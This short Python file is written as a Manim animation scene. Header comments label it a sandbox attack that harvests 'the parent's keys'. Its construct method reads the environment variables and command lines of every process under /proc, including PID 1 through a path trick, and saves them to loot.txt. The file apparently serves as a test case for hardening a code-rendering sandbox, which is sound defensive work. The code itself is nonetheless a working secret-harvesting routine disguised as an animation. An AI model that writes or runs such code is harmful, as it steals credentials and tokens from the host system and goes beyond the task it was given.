# family: environment
# layer: sandbox
# attack: read every process's environment from /proc (the parent's keys)
import os
from manim import *


class Attack(Scene):
    def construct(self):
        out = []
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    out.append(pid + ":" + open(f"/proc/{pid}/environ").read() + open(f"/proc/{pid}/cmdline").read())
                except OSError:
                    pass
        for p in ("/proc/1/environ", "/proc/self/../1/environ"):
            try:
                out.append(open(p).read())
            except OSError:
                pass
        open("loot.txt", "w").write("\n".join(out))
        self.wait(0.1)
